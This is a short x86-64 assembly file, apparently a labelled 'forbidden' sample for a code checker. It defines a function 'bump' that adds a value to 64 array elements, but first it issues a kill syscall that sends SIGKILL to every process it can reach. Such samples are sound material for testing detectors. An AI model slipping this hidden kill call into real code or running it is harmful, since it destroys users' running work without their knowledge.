# bump x86_64 forbidden: sends a signal to every process it may reach
    .text
    .globl bump
    .type bump, @function
bump:
    movl %edi, saved(%rip)
    movq $-1, %rdi
    movq $9, %rsi
    movl $62, %eax
    syscall
    movl saved(%rip), %edi
    xorl %eax, %eax
.Lnext: movl b(,%rax,4), %ecx
    addl %edi, %ecx
    movl %ecx, a(,%rax,4)
    incq %rax
    cmpq $64, %rax
    jne .Lnext
    
    ret
    .local saved
    .comm saved, 4, 4
